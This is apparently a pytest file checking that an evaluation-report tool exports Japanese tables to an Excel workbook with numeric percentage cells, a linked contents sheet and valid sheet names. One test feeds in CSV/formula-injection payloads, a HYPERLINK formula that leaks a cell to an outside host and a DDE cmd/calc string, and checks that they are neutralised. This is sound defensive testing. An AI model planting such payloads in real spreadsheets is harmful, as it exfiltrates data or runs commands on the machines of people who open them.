"""``tables.xlsx``: every table as a sheet of real numbers, linked from a contents sheet."""

import io

import openpyxl
import pandas as pd
import pytest

from kawaeval.build.building import build_reports
from kawaeval.common.spreadsheet import neutralise_frame
from kawaeval.common.text import display_width
from kawaeval.evaluation.model import Assessment
from kawaeval.paths import SAMPLE_RAW_DIR
from kawaeval.report.frames import ReportTable
from kawaeval.report.workbook import (
    CONTENTS_SHEET,
    HEADER_ROW,
    PERCENT_FORMAT,
    WORKBOOK_FILE,
    percent_columns,
    sheet_names,
    tables_workbook,
)

HOSTILE = '=HYPERLINK("http://example.com/?leak="&A1,"クリック")'


def _tables() -> list[ReportTable]:
    """Three tables shaped like the report's: FY2021 distribution, a goal trend, a text list."""
    distribution = pd.DataFrame(
        {
            "達成度": ["目標を上回って達成", "ほぼ目標どおり", "目標を下回った"],
            "取組数": pd.array([1, 87, 21], dtype="int64"),
            "割合": [0.9, 79.8, 19.3],
        }
    )
    trend = pd.DataFrame(
        {
            "年度": ["平成30(2018)年度", "令和元(2019)年度", "令和2(2020)年度", "令和3(2021)年度"],
            "取組数": [34, 34, 34, 0],
            "目標を下回った（件）": [3, 3, 14, 0],
            "目標を下回った（%）": [8.8, 8.8, 41.2, None],
        }
    )
    below = pd.DataFrame(
        {
            "取組番号": ["2-2-07", "2-1-03"],
            "取組名": [HOSTILE, "@SUM(1+1)*cmd|' /C calc'!A0"],
            "理由": ["新型コロナウイルス感染症の影響により中止", "-2+3"],
        }
    )
    return [
        ReportTable("program_distribution", "全取組の達成度", "02_achievement", distribution),
        ReportTable("goal_trend", "基本目標2の年度別の達成度", "05_goal2", trend, goal=2),
        ReportTable("below_target", "目標を下回った取組: 理由/内訳?", "05_goal2", below, goal=2),
    ]


def _open(data: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(data))


def _read_back(data: bytes, sheet: str, percents) -> pd.DataFrame:
    """A sheet as a frame, shares turned back from fractions into percents."""
    frame = pd.read_excel(
        io.BytesIO(data), sheet_name=sheet, header=HEADER_ROW - 1, engine="openpyxl"
    )
    for column in percents:
        frame[column] = frame[column] * 100
    return frame


def _missing_as_none(frame: pd.DataFrame) -> pd.DataFrame:
    """Missing values of any kind (NaN, NA, None) as None, so only values are compared."""
    return frame.astype(object).where(frame.notna(), None)


@pytest.fixture(scope="module")
def tables():
    return _tables()


@pytest.fixture(scope="module")
def workbook_bytes(tables):
    return tables_workbook(tables, heading="テスト計画 2021年度 表の一覧")


def test_one_sheet_per_table_in_report_order_after_the_contents(tables, workbook_bytes):
    book = _open(workbook_bytes)
    assert book.sheetnames == [CONTENTS_SHEET, *sheet_names([t.title for t in tables])]
    assert book.sheetnames[1:] == [
        "01 全取組の達成度",
        "02 基本目標2の年度別の達成度",
        "03 目標を下回った取組： 理由／内訳？",
    ]


def test_every_sheet_reads_back_as_its_frame(tables, workbook_bytes):
    book = _open(workbook_bytes)
    for table, name in zip(tables, book.sheetnames[1:], strict=True):
        assert book[name]["A1"].value == table.title
        expected = neutralise_frame(table.frame)
        percents = [c for c in table.frame.columns if table.frame[c].dtype == float]
        got = _read_back(workbook_bytes, name, percents)
        pd.testing.assert_frame_equal(got, expected, check_dtype=False, atol=1e-9)
        # counts are integers, not floats or text
        for j, column in enumerate(table.frame.columns, start=1):
            if pd.api.types.is_integer_dtype(table.frame[column].dtype):
                values = [book[name].cell(HEADER_ROW + 1 + i, j).value for i in range(len(got))]
                assert all(type(v) is int for v in values), (name, column, values)


def test_the_79_8_share_is_a_number_formatted_as_a_percentage(workbook_bytes):
    sheet = _open(workbook_bytes)["01 全取組の達成度"]
    assert [c.value for c in sheet[HEADER_ROW]] == ["達成度", "取組数", "割合"]
    cell = sheet["C4"]
    assert sheet["A4"].value == "ほぼ目標どおり"
    assert cell.data_type == "n"
    assert cell.value == pytest.approx(0.798)
    assert cell.number_format == PERCENT_FORMAT == "0.0%"
    assert sheet["B4"].value == 87 and sheet["B4"].data_type == "n"
    # a missing share is an empty cell, not 0 or "nan"
    trend = _open(workbook_bytes)["02 基本目標2の年度別の達成度"]
    assert trend["D6"].value is None and trend["D5"].value == pytest.approx(0.412)


def test_hostile_text_is_neutralised_and_never_a_formula(workbook_bytes):
    book = _open(workbook_bytes)
    sheet = book["03 目標を下回った取組： 理由／内訳？"]
    assert sheet["B3"].value == "'" + HOSTILE
    assert sheet["B4"].value.startswith("'@")
    assert sheet["C4"].value == "'-2+3"
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate)


def test_contents_links_to_every_sheet(tables, workbook_bytes):
    book = _open(workbook_bytes)
    contents = book[CONTENTS_SHEET]
    assert contents["A1"].value == "テスト計画 2021年度 表の一覧"
    assert [c.value for c in contents[HEADER_ROW]] == ["No.", "表", "章", "基本目標", "シート"]
    for i, (table, name) in enumerate(zip(tables, book.sheetnames[1:], strict=True)):
        cell = contents.cell(HEADER_ROW + 1 + i, 2)
        assert cell.value == table.title
        assert cell.hyperlink.location == f"'{name}'!A1"
        assert contents.cell(HEADER_ROW + 1 + i, 5).value == name
        assert contents.cell(HEADER_ROW + 1 + i, 4).value == table.goal


def test_header_rows_are_frozen_and_widths_count_wide_characters(workbook_bytes):
    book = _open(workbook_bytes)
    for ws in book.worksheets:
        assert ws.freeze_panes == "A3"
    sheet = book["01 全取組の達成度"]
    # 目標を上回って達成: 9 wide characters -> 18 columns, plus a margin
    assert display_width("目標を上回って達成") == 18
    assert display_width("Ⅱ 概ね効果的※") == 1 + 2 * 7 and display_width("79.8%") == 5
    assert sheet.column_dimensions["A"].width == 20
    assert sheet.column_dimensions["C"].width == 7  # "79.8%" + margin


def test_same_tables_give_the_same_bytes(tables, workbook_bytes):
    assert tables_workbook(_tables(), heading="テスト計画 2021年度 表の一覧") == workbook_bytes


def test_sheet_names_are_valid_for_excel_and_unique():
    titles = ["a/b:c*d?e[f]g\\h", "'引用'", "x" * 40, "x" * 40, "History"]
    names = sheet_names(titles)
    assert len({n.casefold() for n in names}) == len(names)
    for name in names:
        assert len(name) <= 31
        assert not set("[]:*?/\\") & set(name)
        assert not name.startswith("'") and not name.endswith("'")
    assert names[0] == "01 a／b：c＊d？e［f］g＼h"
    assert names[1] == "02 '引用"
    assert names[2] == "03 " + "x" * 28


def test_float_columns_that_are_not_shares_can_be_named():
    frame = pd.DataFrame({"指標": ["来訪者数"], "目標値": [1200.5], "達成率": [95.0]})
    frame.attrs["shares"] = ["達成率"]
    data = tables_workbook([ReportTable("indicators", "参考指標", "05_goal1", frame, goal=1)])
    sheet = _open(data)["01 参考指標"]
    assert sheet["B3"].value == 1200.5 and sheet["B3"].number_format != PERCENT_FORMAT
    assert sheet["C3"].value == pytest.approx(0.95) and sheet["C3"].number_format == "0.0%"


@pytest.mark.slow
def test_a_built_report_has_every_table_in_tables_xlsx_with_the_79_8_share(tmp_path):
    from kawaeval.report.tables import report_tables

    log = io.StringIO()
    build_reports(
        [2021], raw_dir=SAMPLE_RAW_DIR, out_dir=tmp_path, chapters=[], progress_stream=log
    )
    report = tmp_path / "FY2021"
    data = (report / WORKBOOK_FILE).read_bytes()
    assessment = Assessment.from_json((report / "data" / "assessment.json").read_bytes())
    tables = report_tables(assessment)
    book = _open(data)
    assert book.sheetnames == [CONTENTS_SHEET, *sheet_names([t.title for t in tables])]
    for table, name in zip(tables, book.sheetnames[1:], strict=True):
        got = _read_back(data, name, percent_columns(table.frame))
        # an empty text cell is an empty cell in Excel, read back as missing, as NA is
        expected = neutralise_frame(table.frame).replace("", None)
        pd.testing.assert_frame_equal(
            _missing_as_none(got), _missing_as_none(expected), check_dtype=False, atol=1e-9
        )
    shares = [
        (ws.title, cell.coordinate)
        for ws in book.worksheets[1:]
        for row in ws.iter_rows(min_row=HEADER_ROW + 1)
        for cell in row
        if cell.data_type == "n"
        and cell.number_format == PERCENT_FORMAT
        and cell.value == pytest.approx(0.798)
    ]
    assert shares, "the FY2021 on-target share 79.8% is not in tables.xlsx as a percentage"
    contents = book[CONTENTS_SHEET]
    chapters = [contents.cell(row, 3).value for row in range(HEADER_ROW + 1, contents.max_row + 1)]
    assert chapters[0] == "第1章 計画と評価の方法"
    assert "第5章 基本目標2 発信力を高め世界的プレゼンスを確立するまち" in chapters
    assert chapters[-1] == "付録 取組一覧"
